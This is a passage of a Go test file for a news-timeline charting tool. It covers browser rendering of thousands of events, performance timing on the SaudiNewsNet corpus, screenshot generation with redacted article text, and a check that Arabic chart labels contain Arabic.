			e.Date, e.Granularity, e.StartDate, e.EndDate = d.Format(time.DateOnly), "day", d, d
		case k < 9: // a month in the last five years
			d := time.Date(2010+r.IntN(6), time.Month(1+r.IntN(12)), 1, 0, 0, 0, 0, time.UTC)
			e.Date, e.Granularity, e.StartDate, e.EndDate = d.Format("2006-01"), "month", d, d.AddDate(0, 1, -1)
		default: // a year in the last thirty
			y := 1985 + r.IntN(30)
			d := time.Date(y, 1, 1, 0, 0, 0, 0, time.UTC)
			e.Date, e.Granularity, e.StartDate, e.EndDate = strconv.Itoa(y), "year", d, d.AddDate(1, 0, -1)
		}
		events[i] = e
	}
	return events
}

// TestBrowserMany opens 3,000 made-up events grouped by person (lanes by
// the hundred) and checks that every event in the opening view is drawn or
// in a group, and that the page draws only the lanes near the screen.
func TestBrowserMany(t *testing.T) {
	s := launch(t)
	events := manyEvents(3000)
	p := s.open(writePage(t, events, chart.Options{Group: chart.ByPerson}), "", 1400, 900)
	t.Logf("3,000 events by person: first render %s ms after navigation, %s lanes", s.attr(p, "data-render-ms"), s.attr(p, "data-lanes"))
	if s.num(p, "data-inview") < 0.6*3000 {
		t.Errorf("opening view holds %s of 3000", s.attr(p, "data-inview"))
	}
	var tracks int
	s.eval(p, `Array.prototype.filter.call(document.querySelectorAll('.tk-lane'),function(l){return l.querySelector('.tk-track').childElementCount>0}).length`, &tracks)
	if tracks == 0 || float64(tracks) >= s.num(p, "data-lanes") {
		t.Errorf("%d lanes drawn of %s: want only those near the screen", tracks, s.attr(p, "data-lanes"))
	}
}

// measure times the chart of page#hash: the first render (ms after
// navigation start, the page's own clock), and the redraw after a zoom with
// the wheel and after typing a search (from the input sent to two frames
// after the chart changed; the search waits 150 ms for typing to stop, which
// is not counted). render is the longest render's own time.
func measure(t *testing.T, s *session, page, hash, query string) (load, zoom, filter, render float64, parts string) {
	t.Helper()
	p := s.open(page, hash, 1400, 900)
	load = s.num(p, "data-render-ms")
	parts = fmt.Sprintf("script began %.0f ms, JSON decoded %.0f ms, painted %.0f ms, late data read %.0f ms",
		s.num(p, "data-script-ms"), s.num(p, "data-json-ms"), s.num(p, "data-paint-ms"), s.num(p, "data-late-ms"))
	r, err := p.Box(s.ctx, "#tk-axis")
	if err != nil {
		t.Fatal(err)
	}
	x, y := r.Center()
	var zs []float64
	for range 5 {
		start := time.Now()
		p.Wheel(s.ctx, x, y+150, -300)
		s.settle(p)
		zs = append(zs, float64(time.Since(start).Microseconds())/1000)
		render = max(render, s.num(p, "data-last-ms"))
	}
	slices.Sort(zs)
	zoom = zs[len(zs)/2]
	s.click(p, "#tk-filter")
	before := s.text(p, "#tk-count")
	start := time.Now()
	p.Type(s.ctx, query)
	if err := p.Wait(s.ctx, fmt.Sprintf(`document.getElementById('tk-count').textContent !== %q`, before)); err != nil {
		t.Fatal(err)
	}
	s.settle(p)
	filter = float64(time.Since(start).Microseconds())/1000 - 150
	render = max(render, s.num(p, "data-last-ms"))
	return
}

// TestChartPerf times the chart on a day of news (about 1,000 events) and
// on the whole of SaudiNewsNet (about 20,000): page load, and redraw after
// a zoom and after a search. It asserts no time (the machine is shared);
// run it with -chartperf and read the log.
func TestChartPerf(t *testing.T) {
	if !*chartPerf {
		t.Skip("timings only with -chartperf")
	}
	s := launch(t)
	load, _ := os.ReadFile("/proc/loadavg")
	t.Logf("load average before: %s", strings.TrimSpace(string(load)))
	dir := testshared.Path(t, "corpus", "saudinewsnet")
	corpus := ""
	if *chartPerfCorpus {
		corpus = tuningDays(t)
	}
	for _, tc := range []struct{ name, in string }{
		{"day", filepath.Join(dir, "2015-08-02.jsonl")},
		{"corpus", corpus},
		{"page", *chartPerfPage},
	} {
		if tc.name == "corpus" && !*chartPerfCorpus || tc.name == "page" && tc.in == "" {
			continue
		}
		out, made := tc.in, time.Duration(0)
		if tc.name != "page" {
			out = filepath.Join(t.TempDir(), tc.name+".html")
			var stderr bytes.Buffer
			start := time.Now()
			if code := cli.Run(context.Background(), []string{"chart", "-q", tc.in, "-o", out},
				cli.IO{Stdin: strings.NewReader(""), Stdout: &bytes.Buffer{}, Stderr: &stderr}); code != 0 {
				t.Fatalf("tarikh chart: exit %d: %s", code, stderr.String())
			}
			made = time.Since(start)
		}
		b, _ := os.ReadFile(out)
		n := len(pageData(t, string(b)).Items)
		for _, group := range []string{"type", "person"} {
			l, z, f, r, parts := measure(t, s, out, "group="+group, "السعودية")
			t.Logf("%s: %d events, page %d KB (tarikh chart took %v): lanes by %s: load %.0f ms (%s), zoom redraw %.0f ms, search redraw %.0f ms (longest render %.0f ms)",
				tc.name, n, len(b)/1024, made.Round(time.Millisecond), group, l, parts, z, f, r)
		}
	}
	// 20,000 made-up events spread like a news archive (as TestBrowserMany
	// makes them): the page without the cost of reading the corpus.
	made := writePage(t, manyEvents(20000), chart.Options{})
	for _, group := range []string{"type", "person"} {
		l, z, f, r, parts := measure(t, s, made, "group="+group, "Person 1")
		t.Logf("made-up: 20000 events: lanes by %s: load %.0f ms (%s), zoom redraw %.0f ms, search redraw %.0f ms (longest render %.0f ms)",
			group, l, parts, z, f, r)
	}
	load, _ = os.ReadFile("/proc/loadavg")
	t.Logf("load average after: %s", strings.TrimSpace(string(load)))
}

// TestScreenshots writes the docs' pictures with -screenshots DIR: a day of
// news and the seeds, in English and in Arabic, and a month of news in
// English, at 1400×900. The news text is hidden (see redact).
func TestScreenshots(t *testing.T) {
	if *screenshots == "" {
		t.Skip("no -screenshots DIR")
	}
	dir, err := filepath.Abs(*screenshots)
	if err != nil {
		t.Fatal(err)
	}
	s := launch(t)
	shoot := func(name, page, hash string) {
		p := s.open(page, hash, 1400, 900)
		s.settle(p)
		png, err := p.Screenshot(s.ctx)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, name), png, 0o644); err != nil {
			t.Fatal(err)
		}
		t.Logf("wrote %s", filepath.Join(dir, name))
	}
	// The five seed articles, named with the dates a reader gives those that
	// print none (as internal/cli/seeds_test.go does), as tarikh charts them.
	root := t.TempDir()
	seeds := filepath.Join(root, "seeds")
	if err := os.Mkdir(seeds, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, dct := range map[string]string{"000_69b0051346b206e2.txt": "", "001_ef361eb1d81cfdea.txt": "2024-03-26_",
		"002_dc5b0399aa33f440.txt": "2024-04-16_", "003_fc6ee5e3a5a1cddb.txt": "", "004_637aaf80ae70c840.txt": "2024-02-17_"} {
		b, err := os.ReadFile(testshared.Path(t, "seeds", name))
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(seeds, dct+name), b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for _, lang := range []string{"en", "ar"} {
		wd, _ := os.Getwd()
		t.Chdir(root) // the docs read seeds/000_...txt
		page, data := chartOf(t, "seeds", lang)
		t.Chdir(wd)
		sel := -1
		for i, e := range data.Items {
			if e.Start == "2024-03-26" && data.Types[e.Type].Key == "meeting" && (sel < 0 || e.Sources > data.Items[sel].Sources) {
				sel = i
			}
		}
		shoot(map[string]string{"en": "timeline.png", "ar": "timeline-ar.png"}[lang], page, fmt.Sprintf("select=%d", sel))
		page, data = newsDay(t, lang)
		data = redact(t, page, data)
		pick := -1
		for i, e := range data.Items {
			if e.Start == "2015-08-01" && len(e.People) > 0 && e.Sources > 1 && data.Types[e.Type].Key == "meeting" {
				pick = i
				break
			}
		}
		shoot("chart-day-"+lang+".png", page, fmt.Sprintf("select=%d", pick))
	}
	// A month: every SaudiNewsNet day but the held-out ones, in English.
	month := tuningDays(t)
	page, data := chartOf(t, month, "en")
	redact(t, page, data)
	shoot("chart-month-en.png", page, "")
}

// heldOut are the SaudiNewsNet days kept for hand checks (docs/heldout.md):
// no chart, picture or timing is made of them.
var heldOut = []string{"2015-07-27.jsonl", "2015-07-31.jsonl", "2015-08-04.jsonl", "2015-08-07.jsonl"}

// tuningDays returns a folder of links to every SaudiNewsNet day but the
// held-out ones.
func tuningDays(t *testing.T) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "saudinewsnet")
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	days, err := filepath.Glob(filepath.Join(testshared.Path(t, "corpus", "saudinewsnet"), "2015-*.jsonl"))
	if err != nil || len(days) == 0 {
		t.Fatalf("no SaudiNewsNet days: %v", err)
	}
	for _, d := range days {
		if slices.Contains(heldOut, filepath.Base(d)) {
			continue
		}
		if err := os.Symlink(d, filepath.Join(dir, filepath.Base(d))); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// redact hides the news text in the chart page of a SaudiNewsNet day (its
// licence lets no article text into the repository): every word of an
// event's text and of its date as written becomes a bar of the same length,
// and so does every word of a headline that quotes that text, except the
// participants' names. Names, types, dates and article ids stay. It rewrites
// the page and returns its new data.
func redact(t *testing.T, page string, data chart.Page) chart.Page {
	t.Helper()
	bar := func(w string) string { return strings.Repeat("▬", max(1, utf8.RuneCountInString(w)/2)) }
	hide := func(s string) string {
		f := strings.Fields(s)
		for i, w := range f {
			f[i] = bar(w)
		}
		return strings.Join(f, " ")
	}
	for i := range data.Items {
		it := &data.Items[i]
		words := map[string]bool{}
		for _, w := range strings.Fields(it.Text + " " + it.TimeText) {
			words[strings.TrimFunc(w, unicode.IsPunct)] = true
		}
		names := map[string]bool{}
		for _, l := range [][]int{it.People, it.Places, it.Orgs} {
			for _, k := range l {
				for _, w := range strings.Fields(data.Entities[k].Name) {
					names[strings.TrimFunc(w, unicode.IsPunct)] = true
				}
			}
		}
		// A headline with three or more such words quotes the text; fewer
		// are the template's own (في، و، in).
		h := strings.Fields(it.Headline)
		var quoted []int
		for j, w := range h {
			if k := strings.TrimFunc(w, unicode.IsPunct); words[k] && !names[k] {
				quoted = append(quoted, j)
			}
		}
		if len(quoted) >= 3 {
			for _, j := range quoted {
				h[j] = bar(h[j])
			}
			it.Headline = strings.Join(h, " ")
		}
		it.Text, it.TimeText = hide(it.Text), hide(it.TimeText)
	}
	b, err := os.ReadFile(page)
	if err != nil {
		t.Fatal(err)
	}
	early, late, err := chart.EncodePage(&data)
	if err != nil {
		t.Fatal(err)
	}
	m, l := dataRE.FindSubmatchIndex(b), lateRE.FindSubmatchIndex(b)
	if m == nil || l == nil || l[2] < m[3] {
		t.Fatal("no tk-data script followed by a tk-late script in the page")
	}
	out := append(append(append(append(append([]byte{}, b[:m[2]]...), early...), b[m[3]:l[2]]...), late...), b[l[3]:]...)
	if err := os.WriteFile(page, out, 0o644); err != nil {
		t.Fatal(err)
	}
	return data
}

// TestArabicLabelsHaveArabic is a guard for the screenshots: the Arabic
// chart of the news day titles its events in Arabic (with an Arabic
// excerpt or names), except where a name has no Arabic spelling.
func TestArabicLabelsHaveArabic(t *testing.T) {
	_, data := newsDay(t, "ar")
	latin := 0
	for _, e := range data.Items {
		ar := false
		for _, r := range e.Headline {
			if unicode.Is(unicode.Arabic, r) {
				ar = true
				break
			}
		}
		if !ar {
			latin++
		}
	}
	if latin > len(data.Items)/50 {
		t.Errorf("%d of %d Arabic headlines have no Arabic", latin, len(data.Items))
	}
	b, _ := json.Marshal(data.UI)
	if bytes.Contains(b, []byte(`"other"`)) || bytes.Contains(b, []byte(`"match"`)) {
		t.Errorf("untranslated type names in the Arabic page's words")
	}
}
